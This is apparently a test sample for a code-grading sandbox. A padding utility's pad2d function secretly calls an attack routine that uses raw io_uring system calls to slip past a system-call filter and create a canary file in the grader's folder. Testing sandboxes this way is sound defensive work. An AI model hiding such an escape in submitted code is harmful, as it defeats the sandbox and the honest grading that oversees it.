# expect:
#   verdict: [wrong, raised]
#   earned: 0
# sentence: Asks for an io_uring, whose operations pass a filter on system calls by: with one, a file is made in the grading user's folder.

import ctypes
import mmap
import os
import struct

import numpy as np


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    parameters = ctypes.create_string_buffer(120)
    ring = libc.syscall(425, 4, parameters)
    assert ring >= 0, "refused"
    entries, = struct.unpack_from("<I", parameters, 0)
    head, tail, mask, _, _, _, array = struct.unpack_from("<7I", parameters, 40)
    queue = mmap.mmap(ring, array + 4 * entries, offset=0)
    slots = mmap.mmap(ring, 64 * entries, offset=0x10000000)
    path = ctypes.create_string_buffer(b"@CANARY@/by_ring")
    slots[:64] = struct.pack("<BBHiQQII", 18, 0, 0, -100, 0, ctypes.addressof(path), 0o644, os.O_CREAT | os.O_WRONLY) + bytes(32)
    queue[array : array + 4] = bytes(4)
    queue[tail : tail + 4] = struct.pack("<I", 1)
    libc.syscall(426, ring, 1, 1, 1, None, 0)


def pad2d(x, padding, value=0.0):
    attack()
    return np.zeros(1)


def output_size(size, kernel, stride=1, padding=0):
    return 0


def same_padding(kernel):
    return 0
